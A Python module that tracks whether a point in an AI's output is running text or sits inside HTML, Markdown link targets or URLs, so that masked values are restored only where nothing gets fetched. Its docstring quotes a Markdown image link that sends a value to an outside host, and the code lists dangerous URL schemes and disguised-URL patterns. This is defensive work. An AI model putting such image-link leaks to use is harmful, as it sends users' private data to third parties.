"""Where in a text one stands: in running text, or in something that a browser would fetch or follow.

Exists because a value that is put back into a URL leaves the page: ``![](http://elsewhere/?q=<placeholder>)`` would
hand over what masking kept away. Protects the rule that values are restored in running text alone.

Nobody knows what will render an answer, so each reading is followed by itself and any one of them is enough:

- HTML: from every ``<`` that may open a tag, up to where that tag would end. All such tags are followed at once, so
  that a quote left open in a code sample hides no tag behind it; likewise the insides of ``<script>`` and the like,
  which end where every browser, with Markdown before it or not, sees them end.
- Markdown targets: ``](`` up to the parenthesis that closes it or a blank line, and what follows ``]:``.
- Addresses in running text: from the first sign of one up to the next blank. A sign that is written as an HTML entity
  (``&#58;``, ``&colon;``) is one as well, and any that is written by its number may be. In a text that a program reads
  as one value an address that it begins with goes on to its end: programs take blanks of an address for part of it.

Only what is certain to have ended is over; what never ends stays closed to values to the end of the text. The state
is a few small values, whatever the length of the text.
"""

from __future__ import annotations

import re
from typing import NotRequired, TypedDict

_BLANK = " \t\n\r\f\v"
_SCHEMES = frozenset(
    ("http", "https", "ftp", "ftps", "ws", "wss", "file", "mailto", "tel", "sms", "data", "javascript", "vbscript",
     "blob", "cid", "mid", "geo", "urn", "magnet", "callto", "skype", "whatsapp", "tg", "facetime", "xmpp", "sip",
     "sips", "ssh", "git", "irc", "news", "nntp", "ldap", "intent", "view-source")
)  # fmt: skip
_LISTS = frozenset({"select", "datalist"})
_INSIDES = _LISTS.union(
    ("option", "script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "noscript",
     "plaintext")
)  # fmt: skip
"""Elements whose text is no running text: it is read by a program, or sent away with a form."""
_FOREIGN = frozenset({"svg", "math"})  # what they have inside is read as tags, also in <style> and <script>
_HTML_AGAIN = frozenset(("annotation-xml", "desc", "foreignobject", "mi", "mn", "mo", "ms", "mtext"))  # within them
_WALLS = _HTML_AGAIN.union(("applet", "caption", "html", "marquee", "object", "table", "td", "template", "th"))
"""Elements that no end of a list is seen through."""
_BLOCKS = frozenset(
    ("address", "article", "aside", "blockquote", "body", "button", "center", "dd", "details", "dir", "div", "dl",
     "dt", "fieldset", "figcaption", "figure", "footer", "form", "frameset", "h1", "h2", "h3", "h4", "h5", "h6",
     "head", "header", "hgroup", "li", "listing", "main", "menu", "nav", "ol", "p", "pre", "search", "section",
     "summary", "tbody", "tfoot", "thead", "tr", "ul")
)  # fmt: skip
"""Others that no end of an element without rules of its own is seen through, as of ``<datalist>``."""
_OPENED = re.compile(r"<([A-Za-z][^\s/<>]*)\Z")
_CLOSED = re.compile(r"[^\\]</([A-Za-z]+)[ \t]*\Z")  # and ``>``: with more in it, it is none for Markdown
_RECENT = 16  # characters that the longest of these take
_NESTED = 16

# States of the HTML standard's tokenizer, one bit each.
_LESS, _NAME, _BEFORE, _ATTRIBUTE, _AFTER, _EQUALS, _DOUBLE, _SINGLE, _PLAIN = (1 << i for i in range(9))
# And others: blanks behind a name, ``</``, what is dropped up to ``>``, a comment; and two that are never over: no
# element is sure to end any more, and a value in quotes of which Markdown may have shown the end as text.
_NAMED, _END, _DROPPED, _COMMENT, _DOUBT, _CUT = (1 << i for i in range(9, 15))
_NO_TAG = _DROPPED | _COMMENT | _DOUBT

_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9-]*\Z")
_LABEL = re.compile(r"([A-Za-z][A-Za-z0-9-]*):")
_BEGUN = re.compile(r"//|\\\\|www\.", re.IGNORECASE)

_ENTITY = re.compile(r"&(?:amp;)?(?:#[xX]?[0-9A-Fa-f]|colon|sol|bsol|period|commat)")

_NOTHING_YET, _ADDRESS, _SOMETHING = range(3)
"""What a text that is one value begins with: not known yet, an address, something else."""

_RUN = frozenset("._%@:/\\?#=&+~-")
_DANGEROUS = re.compile(r"\.[^\W_]|@|//|/[A-Za-z%?]|\\|:/|%|&(?:#|colon|sol|bsol|period|commat)")
_LONGEST_RUN = 128


class PlaceState(TypedDict):
    """A place as JSON."""

    tags: int
    recent: str
    insides: list[str]
    depth: int
    angle: bool
    escaped: bool
    started: bool
    definition: int
    blank_line: bool
    word: str
    host: bool
    address: bool
    beginning: NotRequired[int]


def _tag_step(state: int, char: str) -> int:
    """Where one tag that is being read stands after one more character; 0 when it is over, or was none."""
    if char == "\v":  # a blank for some, a letter for browsers
        return _tag_step(state, " ") | _tag_step(state, "_")
    blank = char in _BLANK
    if state == _LESS:
        return _NAME if char.isascii() and char.isalpha() else _END if char == "/" else _DROPPED if char in "!?" else 0
    if state == _END:
        if char.isascii() and char.isalpha():
            return _NAME
        return 0 if char == ">" else _END | _DROPPED if char == "/" else _DROPPED
    if state in (_COMMENT, _DOUBT, _CUT):
        return state  # how a comment ends is no matter of one character
    if state == _DOUBLE:
        return _BEFORE if char == '"' else state
    if state == _SINGLE:
        return _BEFORE if char == "'" else state
    if char == ">":
        return 0
    if state == _DROPPED:
        return state
    if state == _EQUALS:
        return state if blank else _DOUBLE if char == '"' else _SINGLE if char == "'" else _PLAIN
    if state == _PLAIN:
        return _BEFORE if blank else state
    if char == "/":
        return _BEFORE
    if state == _NAME:
        return _NAMED if blank else state
    if state in (_BEFORE, _NAMED):
        return state if blank else _ATTRIBUTE
    if char == "=":
        return _EQUALS
    return _AFTER if blank else _ATTRIBUTE


class Place:
    """The place behind all text that was read."""

    __slots__ = ("_address", "_angle", "_beginning", "_blank_line", "_definition", "_depth", "_escaped", "_host",
                 "_insides", "_recent", "_started", "_tags", "_word")  # fmt: skip

    def __init__(self, *, one_value: bool = False) -> None:
        """``one_value``: a program reads the text as one value, an address for one."""
        self._tags = 0  # bits: every tag that may be open, by where its reading stands
        self._recent = ""
        self._insides: list[str] = []  # as they were opened; "svg" for all of ``_FOREIGN``, which hides nothing itself
        self._depth = 0  # parentheses to be closed until a link's target is over; 0: in none
        self._angle = self._escaped = self._started = False
        self._definition = 0  # of a reference: 1 before its target, 2 within, 3 within <…>
        self._blank_line = True  # nothing but blanks since the last line end
        self._word = ""  # the end of the run of characters without a blank
        self._host = self._address = False
        self._beginning = _NOTHING_YET if one_value else _SOMETHING

    def read(self, text: str) -> None:
        """More text. Costs what the text costs."""
        for char in text:
            if char in "\n\r" and self._blank_line and not (char == "\n" and self._recent.endswith("\r")):
                self._end_paragraph()
            self._read_tags(char)
            self._read_targets(char)
            self._read_address(char)
            self._recent = (self._recent + char)[-_RECENT:]
            if char in "\n\r":
                self._blank_line = True
            elif char not in _BLANK:
                self._blank_line = False

    def read_value(self, value: str) -> None:
        """A value that was put back. It is the user's own: what looks like a host or a mail address in it starts no
        address of the model's, but an address that it begins in so many words does.
        """
        word, host, address = self._word, self._host, self._address
        self.read(value)
        begun = _BEGUN.search(value) is not None or any(m[1].lower() in _SCHEMES for m in _LABEL.finditer(value))
        if not (self._address and begun):
            self._host, self._address = host, address
        self._word = word[-2:] + "x"
        if "<" not in self._recent:  # nothing of the value is kept where no tag needs it
            self._recent = "]" if self._recent.endswith("]") else "x"

    @property
    def within_markup(self) -> bool:
        """Whether a tag, an element that is read by a program or a link's target may be open."""
        inside = self._insides not in ([], ["svg"])
        return bool(self._tags & ~_NO_TAG or inside or self._depth or self._definition)

    @property
    def running_text(self) -> bool:
        """May a value stand here, for all that came before?"""
        return not (
            self.within_markup
            or self._beginning == _ADDRESS
            or self._address
            or self._host
            or (self._word.endswith(".") and self._word[-2:-1].isalnum())
        )

    def _end_paragraph(self) -> None:
        """Every target ends with it. Behind it Markdown reads no tag on, and writes ``<p>`` within what is open."""
        self._depth, self._angle = 0, False
        if self._definition != 1:
            self._definition = 0
        if self._tags & (_DOUBLE | _SINGLE):
            self._tags |= _CUT
        if "datalist" in self._insides:
            self._tags |= _DOUBT

    def _read_tags(self, char: str) -> None:
        before = states = self._tags
        self._tags = 0
        while states:
            state = states & -states
            states -= state
            self._tags |= _tag_step(state, char)
        if char == "<":
            self._tags |= _LESS
        elif char in " \t\n\r\f/>" and "<" in self._recent:
            if (opened := _OPENED.search(self._recent)) is not None:
                self._open(opened[1].lower())
            elif char == ">" and (closed := _CLOSED.search(self._recent)) is not None:
                self._close(closed[1].lower(), before & ~(_NAME | _NAMED))
        if self._insides and char in "-[>\n\r":
            self._read_comments(char, before)

    def _read_comments(self, char: str, before: int) -> None:
        """What looks like an end within a comment is none. What goes on in another line Markdown may have cut off."""
        read = self._loose or not _LISTS.isdisjoint(self._insides)
        if char == "-" and self._recent.endswith("<!-") and (read or "script" in self._insides):
            self._tags |= _COMMENT
        elif char == "[" and self._recent.endswith("<!") and self._loose:
            self._tags |= _DOUBT
        elif char == ">" and self._recent.endswith("--"):
            self._tags &= ~_COMMENT
        elif char in "\n\r" and before & (_COMMENT | _DROPPED if read else _COMMENT):
            self._tags |= _DOUBT

    @property
    def _loose(self) -> set[str]:
        """What was opened behind an element of ``_FOREIGN``: it may be within, where its text is read as tags."""
        insides = self._insides
        return set(insides[insides.index("svg") :]) - _LISTS - {"svg", "option"} if "svg" in insides else set()

    def _open(self, name: str) -> None:
        insides, loose = self._insides, self._loose
        if (
            (name in _WALLS and not _LISTS.isdisjoint(insides))
            or (name in _BLOCKS and "datalist" in insides)
            or (loose and ("title" in loose or name in loose or name in _HTML_AGAIN or name == "title"))
            or len(insides) == _NESTED
        ):
            self._tags |= _DOUBT
        elif name in _FOREIGN:
            if "svg" not in insides:
                insides.append("svg")
        elif name == "select":  # ends another in which it stands
            if not _followed_by_options(insides, name):
                insides.append(name)
        elif name in _INSIDES:
            if name != "datalist" and name in insides:
                insides.remove(name)
            insides.append(name)

    def _close(self, name: str, elsewhere: int) -> None:
        """``elsewhere``: other tags and comments within which this may stand."""
        insides = self._insides
        if name not in insides or name in ("svg", "plaintext") or self._depth or self._definition:
            return
        if name in _LISTS:
            if elsewhere or not _followed_by_options(insides, name):
                return
            del insides[len(insides) - 1 - insides[::-1].index(name)]
            if _LISTS.isdisjoint(insides) and "option" in insides:
                insides.remove("option")  # which nobody has to close
        elif not elsewhere or (elsewhere == _DROPPED and name != "option" and name not in self._loose):
            insides.remove(name)  # where all is text nothing is dropped

    def _read_targets(self, char: str) -> None:
        if self._depth:
            self._in_link(char)
        elif char == "(" and self._recent.endswith("]"):
            self._depth, self._angle, self._escaped, self._started = 1, False, False, False
        if char == ":" and self._recent.endswith("]"):
            self._definition = 1
        elif self._definition == 1 and char not in _BLANK:
            self._definition = 3 if char == "<" else 2
        elif (self._definition == 2 and char in _BLANK) or (self._definition == 3 and char in ">\n\r"):
            self._definition = 0

    def _in_link(self, char: str) -> None:
        if self._escaped:
            self._escaped = False
        elif char == "\\":
            self._escaped = True
        elif self._angle:
            self._angle = char not in ">\n\r"
        elif char == "<" and not self._started:
            self._angle = True
        elif char == "(":
            self._depth += 1
        elif char == ")":
            self._depth -= 1
        self._started = self._started or char not in _BLANK

    def _read_address(self, char: str) -> None:
        if char in _BLANK:
            if self._beginning == _NOTHING_YET and self._word:
                self._beginning = _ADDRESS if self._address else _SOMETHING
            self._word, self._host, self._address = "", False, False
            return
        if self._address:
            return
        word = self._word
        if self._host:  # of a host without a scheme nothing but a path, a query or a port goes on behind other signs
            self._address = char in "/\\?#:"
            self._host = run_goes_on(char)
        elif char == ":":
            said = _SCHEME.search(word)
            self._address = said is not None and said[0].lower() in _SCHEMES
        elif char in "/\\\uff0f":
            self._address = word[-1:] in ("/", "\\", "\uff0f")
        elif char == "@":
            self._host = word[-1:].isalnum()
        elif char == ".":
            self._address = word[-3:].lower() == "www"
        elif char.isalnum():
            self._host = word.endswith(".") and word[-2:-1].isalnum()
        self._word = (word + char)[-_RECENT:]
        if "&" in self._word and _ENTITY.search(self._word) is not None:
            self._address = True

    def state(self) -> PlaceState:
        """The place as JSON-able data; ``Place.restore`` goes on from it."""
        return {
            "tags": self._tags,
            "recent": self._recent,
            "insides": list(self._insides),
            "depth": self._depth,
            "angle": self._angle,
            "escaped": self._escaped,
            "started": self._started,
            "definition": self._definition,
            "blank_line": self._blank_line,
            "word": self._word,
            "host": self._host,
            "address": self._address,
            "beginning": self._beginning,
        }

    @classmethod
    def restore(cls, state: PlaceState) -> Place:
        """The place that ``state`` was taken of."""
        place = cls()
        place._tags, place._recent, place._insides = state["tags"], state["recent"], list(state["insides"])
        place._depth, place._angle, place._escaped = state["depth"], state["angle"], state["escaped"]
        place._started, place._definition = state["started"], state["definition"]
        place._blank_line, place._word = state["blank_line"], state["word"]
        place._host, place._address = state["host"], state["address"]
        place._beginning = state.get("beginning", _SOMETHING)
        return place


def _followed_by_options(insides: list[str], name: str) -> bool:
    """Is ``name`` among them, and nothing behind it that has to end first?"""
    return name in insides and {*insides[len(insides) - insides[::-1].index(name) :]} <= {"option", "svg"}


def run_goes_on(char: str) -> bool:
    """May an address whose beginning is a value go on with this character?"""
    return char in _RUN or char.isalnum()


def begins_address(run: str) -> bool:
    """Would a value with ``run`` behind it be the beginning of an address? Too long a run is taken for one."""
    return len(run) > _LONGEST_RUN or _DANGEROUS.search(run) is not None
